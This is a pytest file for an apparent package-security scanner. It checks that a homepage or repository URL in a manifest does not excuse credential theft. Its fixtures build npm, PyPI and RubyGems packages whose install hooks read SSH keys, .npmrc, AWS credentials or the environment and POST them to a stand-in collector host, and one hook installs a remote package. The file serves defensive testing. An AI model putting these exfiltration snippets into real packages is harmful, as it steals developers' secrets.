"""A manifest's word about its own hosts: what it may make weigh less, and what it may not. Nothing here runs."""

from collections.abc import Callable, Mapping
from functools import cache

import pytest

from pratique.analysis.chains.claims import believed
from pratique.analysis.context import Context
from pratique.analysis.facts import FileFacts, Language, Use
from pratique.analysis.job import Done
from pratique.analysis.subject import Contents
from pratique.core.finding import Severity
from pratique.core.manifest import Manifest
from pratique.core.tree import File, Tree
from tests.analysis.chains.making import load, place, send
from tests.analysis.inspecting import bytes_, npm, of_rule, package_json, wheel
from tests.builders import tgz
from tests.loopback.gem_packages import metadata, packed_gem

SINK = "https://collect.sample.dev/v1"
CLAIM = "https://sample.dev"

_JAVASCRIPT = (
    "const fs = require('fs'); const os = require('os'); const https = require('https');\n"
    "{}\n"
    f"const request = https.request('{SINK}', {{ method: 'POST' }});\nrequest.write(data);\nrequest.end();\n"
)
_PYTHON = (
    f"import json, os, platform, urllib.request\n{{}}\nurllib.request.urlopen('{SINK}', data=data.encode())\n"
)
_RUBY = f"require 'json'\nrequire 'net/http'\n{{}}\nNet::HTTP.post(URI('{SINK}'), data)\n"
PRIVATE = ("ssh key", "npmrc", "cloud", "environment")
_FILES = {"ssh key": ".ssh/id_rsa", "npmrc": ".npmrc", "cloud": ".aws/credentials"}
_WEAK = "platform"


def _javascript(kind: str) -> str:
    other = {
        "environment": "const data = JSON.stringify(process.env);",
        _WEAK: "const data = JSON.stringify({ platform: process.platform, version: process.version });",
    }
    line = other.get(kind) or f"const data = fs.readFileSync(os.homedir() + '/{_FILES[kind]}', 'utf8');"
    return _JAVASCRIPT.replace("{}", line, 1)


def _python(kind: str) -> str:
    other = {
        "environment": "data = json.dumps(dict(os.environ))",
        _WEAK: "data = json.dumps({'python': platform.python_version()})",
    }
    line = other.get(kind) or f"data = open(os.path.expanduser('~/{_FILES[kind]}')).read()"
    return _PYTHON.replace("{}", line, 1)


def _ruby(kind: str) -> str:
    other = {"environment": "data = ENV.to_h.to_json", _WEAK: "data = { on: RUBY_PLATFORM }.to_json"}
    line = other.get(kind) or f"data = File.read(File.expand_path('~/{_FILES[kind]}'))"
    return _RUBY.replace("{}", line, 1)


def _npm(kind: str, claim: str | None) -> Done:
    claims: Mapping[str, dict[str, object]] = {
        "homepage": {"homepage": CLAIM},
        "repository": {"repository": {"type": "git", "url": f"git+{CLAIM}/x.git"}},
        "bugs": {"bugs": {"url": f"{CLAIM}/bugs"}},
    }
    fields = claims[claim] if claim else {}
    manifest = package_json(scripts={"postinstall": "node setup.js"}, **fields)
    return npm({"package.json": manifest, "setup.js": _javascript(kind), "index.js": "exports.a = 1;\n"})


def _headers(claim: str | None) -> str:
    claims = {
        "Home-page": f"Home-page: {CLAIM}\n",
        "Project-URL": "Project-URL: Docs, https://docs.sample.dev\n",
    }
    return "Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n" + (claims[claim] if claim else "")


def _wheel(kind: str, claim: str | None) -> Done:
    return wheel({"sample-1.0.0.dist-info/METADATA": _headers(claim), "sample/__init__.py": _python(kind)})


def _sdist(kind: str, claim: str | None) -> Done:
    script = f"from setuptools import setup\n{_python(kind)}\nsetup(name='sample', version='1.0.0')\n"
    data = tgz({"PKG-INFO": _headers(claim), "setup.py": script}, root="sample-1.0.0")
    return bytes_(data, filename="sample-1.0.0.tar.gz")


def _gem_with(path: str) -> Callable[[str, str | None], Done]:
    def make(kind: str, claim: str | None) -> Done:
        files = {path: _ruby(kind)}
        extensions = (path,) if path.endswith("extconf.rb") else ()
        written = metadata("sample", "1.0.0", tuple(files), extensions=extensions)
        if claim == "homepage":
            written = written.replace("homepage: https://kite.example", f"homepage: {CLAIM}")
        elif claim:
            written = written.replace("metadata: {}", f"metadata:\n  {claim}: {CLAIM}/x")
        return bytes_(packed_gem(files, written), filename="sample-1.0.0.gem")

    return make


_URIS = ("source_code_uri", "bug_tracker_uri", "documentation_uri", "changelog_uri")
MAKERS: Mapping[str, tuple[Callable[[str, str | None], Done], tuple[str, ...]]] = {
    "npm": (_npm, ("homepage", "repository", "bugs")),
    "wheel": (_wheel, ("Home-page", "Project-URL")),
    "sdist": (_sdist, ("Home-page", "Project-URL")),
    "gem at install": (_gem_with("ext/extconf.rb"), ("homepage", *_URIS)),
    "gem at require": (_gem_with("lib/sample.rb"), ("homepage", *_URIS)),
}
CELLS = [(maker, claim) for maker, (_, claims) in MAKERS.items() for claim in claims]


@cache
def found(maker: str, kind: str, claim: str | None) -> tuple[tuple[tuple[str, Severity], ...], float]:
    inspection = MAKERS[maker][0](kind, claim).inspection
    assert () == inspection.failed
    assert inspection.score is not None
    findings = tuple((finding.rule, finding.severity) for finding in inspection.findings)
    return findings, inspection.score.probability


@pytest.mark.parametrize(("maker", "claim"), CELLS)
@pytest.mark.parametrize("kind", PRIVATE)
def test_a_claimed_host_excuses_no_theft(maker: str, claim: str, kind: str) -> None:
    findings, _ = found(maker, kind, None)
    assert ("attack-chain", Severity.CRITICAL) in findings
    assert found(maker, kind, claim) == found(maker, kind, None)


@pytest.mark.parametrize(("maker", "claim"), CELLS)
def test_telemetry_to_a_claimed_host_weighs_no_more(maker: str, claim: str) -> None:
    findings, probability = found(maker, _WEAK, claim)
    assert not [severity for _, severity in findings if severity is not Severity.INFO]
    assert probability <= found(maker, _WEAK, None)[1]


SENDS_WHEN_CALLED = (
    "const https = require('https');\n"
    "exports.go = function () {\n"
    "  const data = JSON.stringify(process.env);\n"
    f"  const request = https.request('{SINK}', {{ method: 'POST' }});\n"
    "  request.write(data);\n  request.end();\n};\n"
)


@pytest.mark.parametrize("before", [None, "exports.a = 1;\n", f"exports.a = '{SINK}';\n"])
def test_neither_a_claim_nor_an_earlier_release_excuses_an_environment_that_a_call_sends(
    before: str | None,
) -> None:
    manifest = package_json(main="index.js", homepage=CLAIM)
    earlier = {"package.json": manifest, "index.js": before} if before else None
    done = npm({"package.json": manifest, "index.js": SENDS_WHEN_CALLED}, earlier)
    assert Severity.CRITICAL in {finding.severity for finding in of_rule(done, "attack-chain")}


@pytest.mark.parametrize("claims", [{}, {"homepage": CLAIM}])
def test_a_claimed_host_excuses_no_package_that_a_hook_installs_from_it(claims: dict[str, object]) -> None:
    manifest = package_json(scripts={"postinstall": "npm i https://get.sample.dev/x.tgz"}, **claims)
    done = npm({"package.json": manifest, "index.js": "exports.a = 1;\n"})
    assert of_rule(done, "attack-chain")


def test_a_readme_and_an_address_of_mail_claim_nothing() -> None:
    manifest = package_json(scripts={"postinstall": "node setup.js"}, author="A <a@sample.dev>")
    files = {"setup.js": _javascript("npmrc"), "index.js": "exports.a = 1;\n", "README.md": f"See {CLAIM}\n"}
    inspection = npm({"package.json": manifest, **files}).inspection
    assert found("npm", "npmrc", None)[0] == tuple((one.rule, one.severity) for one in inspection.findings)


CLIENT = (
    "import os, requests\n\n\ndef send(text):\n"
    "    key = os.environ['SAMPLE_API_KEY']\n"
    f"    return requests.post('{SINK}', json={{'text': text}}, headers={{'x-key': key}})\n"
)


def test_a_client_may_send_its_own_key_to_the_host_that_it_claims() -> None:
    metadata_ = {"sample-1.0.0.dist-info/METADATA": _headers("Home-page")}
    assert () == wheel({**metadata_, "sample/__init__.py": CLIENT}).inspection.findings


def contents_of(*uses: Use) -> Contents:
    tree = Tree((File("package.json", b"{}"), File("a.js", b"x")))
    facts = FileFacts(language=Language.JAVASCRIPT, lines=3, longest_line=80, uses=uses)
    return Contents(tree, Manifest(path="package.json"), {"a.js": facts}, {"a.js": Context.INSTALL})


def test_what_names_no_claimed_host_leaves_the_claim_alone() -> None:
    own = frozenset({"sample.dev"})
    assert own == believed(contents_of(send("https://far.invalid/x")), own)
    assert frozenset() == believed(contents_of(send(SINK)), frozenset())


def test_a_claim_falls_where_files_of_keys_go_to_the_claimed_host() -> None:
    own = frozenset({"sample.dev", "github.com/me"})
    theft = (load(place(".ssh")), load(send(SINK)))
    assert frozenset() == believed(contents_of(*theft), own)
    assert own == believed(contents_of(load(send(SINK))), own)
